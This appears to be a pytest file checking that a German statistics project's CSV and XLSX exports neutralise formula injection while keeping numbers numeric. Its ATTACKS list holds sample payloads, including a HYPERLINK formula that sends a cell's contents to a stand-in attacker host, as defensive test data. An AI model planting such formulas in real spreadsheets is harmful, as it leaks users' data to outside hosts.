"""Spreadsheet exports: formula-like text arrives as text, numbers stay numbers (core.exports)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from bildungskette.core.exports import cell_escape, csv_text, sheet_title, xlsx_workbook

ATTACKS = ['=HYPERLINK("http://böse.example/?x="&A1,"Klick")', "=1+1", "@SUM(A1:A9)", "+49 561 123", "-2+3",
           "\tTAB", "\rCR"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_an_apostrophe(text):
    assert cell_escape(text) == "'" + text


@pytest.mark.parametrize("value", [-5, Decimal("-5.5"), -0.25, 0, None, "Kassel", "06611", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert cell_escape(value) == value


def test_csv_escapes_text_and_keeps_negative_numbers_numeric():
    text = csv_text([[*ATTACKS[:3], -5, Decimal("-1.50"), "06611"]], header=["a", "b", "c", "n", "d", "k"])
    assert text.startswith("\ufeff")
    row = next(r for i, r in enumerate(csv.reader(io.StringIO(text[1:]), delimiter=";")) if i == 1)
    assert row[:3] == ["'" + a for a in ATTACKS[:3]]
    assert row[3:] == ["-5", "-1,5", "06611"]
    point = csv_text([[Decimal("-1.50"), 2.25]], decimal_mark=".", bom=False)
    assert point == "-1.5;2.25\r\n"


def test_xlsx_stores_formula_text_as_text_cells_and_numbers_as_numbers():
    data = xlsx_workbook("Quote: ohne HSA [%]", ["Name", "Schlüssel", "Wert"],
                         [[a, "06611", -5] for a in ATTACKS[:3]] + [["Flensburg", "01001", Decimal("-2.5")]],
                         ["Quelle: Test"])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Quote  ohne HSA  %"
    for r, attack in enumerate(ATTACKS[:3], start=2):
        name, key, value = (sheet.cell(r, c) for c in (1, 2, 3))
        assert (name.value, name.data_type, name.quotePrefix) == (attack, "s", True)
        assert (key.value, key.data_type) == ("06611", "s")
        assert (value.value, value.data_type) == (-5, "n")
    assert (sheet["B5"].value, sheet["C5"].value) == ("01001", -2.5)
    assert sheet["A7"].value == "Quelle: Test"


@pytest.mark.parametrize("title,expected", [("a:b", "a b"), ("", "Daten"), ("x" * 40, "x" * 31), ("[/]", "Daten")])
def test_sheet_titles_excel_accepts(title, expected):
    assert sheet_title(title) == expected
